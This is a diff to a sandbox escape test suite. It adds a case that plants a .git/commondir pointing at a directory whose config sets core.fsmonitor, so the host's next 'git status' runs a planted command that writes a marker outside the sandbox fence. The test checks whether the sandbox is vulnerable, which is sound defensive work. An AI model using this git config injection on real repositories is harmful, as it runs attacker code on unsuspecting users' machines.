@@ -7,6 +7,7 @@
  */
 import { join, relative } from 'node:path';
 import type { Host } from '../harness/host.js';
+import { armRepo } from './planted.js';
 import type { Row } from './types.js';
 
 /** Plants with one `dsh run` (one world), then attempts with another (the next world). */
@@ -25,7 +26,26 @@ const wrote = (host: Host) => {
   return { failed, evidence: failed ? `${marker(host)} holds the tag` : `${marker(host)} was not written` };
 };
 
+/** A config whose fsmonitor (run by the person's `git status`) writes the tag outside the fence. */
+const evilConfig = (host: Host) =>
+  `'[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = "echo ${host.tag} > ${marker(host)}; false"\\n'`;
+
 export const linkRows: Row[] = [
+  {
+    id: 'planted-git-commondir',
+    klass: 'planted',
+    title:
+      "a .git/commondir naming a directory whose config runs code (core.fsmonitor) at the person's next git status",
+    proof: 'a marker the planted fsmonitor writes outside the fence when the host runs git status',
+    marker: 'file',
+    arm: async (host) => (await armRepo(host)) ?? canWriteOutside(host),
+    command: (host) =>
+      `mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/ && printf ${evilConfig(host)} > evil/config && echo "$PWD/evil" > .git/commondir`,
+    async judge(host) {
+      await host.sh('git status >/dev/null 2>&1');
+      return wrote(host);
+    },
+  },
   {
     id: 'planted-link-git-outside',
     klass: 'planted',
